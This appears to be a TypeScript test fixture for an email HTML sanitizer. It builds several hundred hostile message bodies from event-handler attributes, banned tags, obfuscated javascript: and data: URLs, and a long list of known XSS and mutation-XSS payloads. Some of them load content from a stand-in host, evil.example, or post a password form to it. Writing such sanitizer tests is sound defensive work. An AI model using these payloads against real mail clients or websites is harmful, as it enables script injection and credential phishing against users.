/** A message body that must not get through as it is. `keeps`: it has the words "hello there" where a reader would see them. */
export type HostileBody = { readonly html: string; readonly keeps: boolean };

const words = "hello there";

const handlers = [
  ...["onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontransitionend"],
  ...["onpointerenter", "ontoggle", "onbeforematch", "onscrollend", "onwheel", "onbegin", "oncut", "ONERROR"],
];

const handlerTags = ["p", "div", "a", "b", "td", "blockquote", "h1", "li", "pre", "ol"];

/** Elements that must go, whatever they carry; what stands in them stays where a reader would see it. */
const badTags = [
  ...[
    "form",
    "button",
    "label",
    "fieldset",
    "iframe",
    "object",
    "embed",
    "applet",
    "video",
    "audio",
    "marquee",
  ],
  ...[
    "svg",
    "math",
    "base",
    "meta",
    "link",
    "frameset",
    "dialog",
    "details",
    "portal",
    "canvas",
    "map",
    "area",
  ],
  ...[
    "noscript",
    "slot",
    "x-custom",
    "center",
    "font",
    "body",
    "html",
    "select",
    "input",
    "keygen",
    "isindex",
  ],
];

const schemes = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java\rscript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript&colon;alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;avascript:alert(1)",
  "&#0000106avascript:alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "javascript://%0aalert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "blob:https://a.example/1",
  "file:///etc/passwd",
  "view-source:https://a.example",
  "//evil.example/x",
  "/api/connection",
  "\\\\evil.example\\x",
  "intent://x#Intent;end",
];

const urlAttributes = [
  ["a", "href"],
  ["img", "src"],
  ["img", "srcset"],
  ["img", "longdesc"],
  ["td", "background"],
  ["blockquote", "cite"],
  ["a", "ping"],
];

const fixed = [
  "<script>alert(1)</script>",
  "<script src=//evil.example></script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<style>@import url(https://evil.example/x.css);</style>",
  "<style><img src=x onerror=alert(1)></style>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math href=javascript:alert(1)>click</math>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><img src=x onerror=alert(1)></template>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video poster=https://evil.example/p><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<img name=getElementById src=https://a.acme.com/x.png>",
  "<p id=__NEXT_DATA__>x</p>",
  "<a id=x name=y class=z style=position:fixed>x</a>",
  "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
  "<div style='behavior:url(x)'>x</div>",
  "<p style='width:expression(alert(1))'>x</p>",
  "<img src=x onerror=alert(1)//",
  "<img src='x' onerror='alert(1)'",
  '<img """><script>alert(1)</script>">',
  "<img/src=x/onerror=alert(1)>",
  "<<script>alert(1)//<</script>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--[if IE]><img src=x onerror=alert(1)><![endif]-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><p onclick=x>x</p>",
  "<a href=https://a.example target=_top rel=opener>x</a>",
  "<p contenteditable tabindex=0 accesskey=x>x</p>",
  "<p is=x-evil slot=y part=z>x</p>",
  "<p data-src=https://evil.example data-x=1>x</p>",
  "<img data-src=https://evil.example/x.png>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<listing><img src=x onerror=alert(1)></listing>",
  "<select><style></select><img src=x onerror=alert(1)></style>",
  "<table background=https://evil.example><tr><td>x</table>",
  "<picture><source srcset=https://evil.example/x><img src=https://a.acme.com/x srcset=https://evil.example/y></picture>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
  "<p>\u202Eevil</p><p onclick=x>\u0000x</p>",
];

/** Leave a browser in a state where nothing after them is text any more, or is not shown. */
const swallowing =
  /<style><a id|<template|<!--><|<plaintext|<select><style|<img src='x'|onerror=alert\(1\)\/\/$|<style><!--|p title='<|<path id/;

const unique = (bodies: readonly HostileBody[]): readonly HostileBody[] => [
  ...new Map(bodies.map((body) => [body.html, body])).values(),
];

/** At least 300 bodies, made of what attacks on mail readers are made of. */
export const hostileBodies = (): readonly HostileBody[] => {
  const byHandler = handlerTags.flatMap((tag) =>
    handlers.map((handler) => `<${tag} ${handler}="alert(1)" ${handler}2='x'>${words}</${tag}>`),
  );
  const byTag = badTags.flatMap((tag) => [
    `<p>${words}</p><${tag} onload=alert(1) src=https://evil.example/x>x</${tag}>`,
    `<${tag} id=x style="color:red">y</${tag}><p>${words}</p>`,
  ]);
  const byScheme = urlAttributes.flatMap(([tag, attribute]) =>
    schemes.map((scheme) => `<p>${words}</p><${tag} ${attribute}="${scheme}">x</${tag}>`),
  );
  const byFixed = fixed.flatMap((html) => [`<p>${words}</p>${html}`, html]);
  return unique([
    ...[...byHandler, ...byTag, ...byScheme].map((html) => ({ html, keeps: true })),
    ...byFixed.map((html) => ({ html, keeps: html.startsWith(`<p>${words}`) && !swallowing.test(html) })),
  ]);
};
